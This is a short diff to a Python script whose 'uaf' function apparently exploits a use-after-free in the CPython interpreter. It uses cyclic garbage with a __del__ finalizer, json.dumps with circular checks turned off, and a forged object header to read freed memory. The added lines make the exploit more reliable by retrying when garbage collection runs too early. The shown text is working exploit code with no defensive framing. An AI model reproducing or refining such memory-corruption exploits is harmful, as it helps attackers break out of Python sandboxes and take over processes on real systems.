@@ -26,6 +26,8 @@ def uaf(default, fake):
         L = FILL + [bytearray(b"VICTIM")]
         d = D(); d.me = d; del d                  # cyclic garbage: only a collection runs __del__
         out = json.dumps(L, default=default, check_circular=False)
+        if ", " not in out:                       # the collection ran before dumps: L was empty
+            continue
         out = out[out.rindex(", ") + 2:-1]
         if log and "VICTIM" not in out and (default is not repr or FAKE[8:16] == struct.pack("<Q", BA_TYPE) or KEEP):
             return out
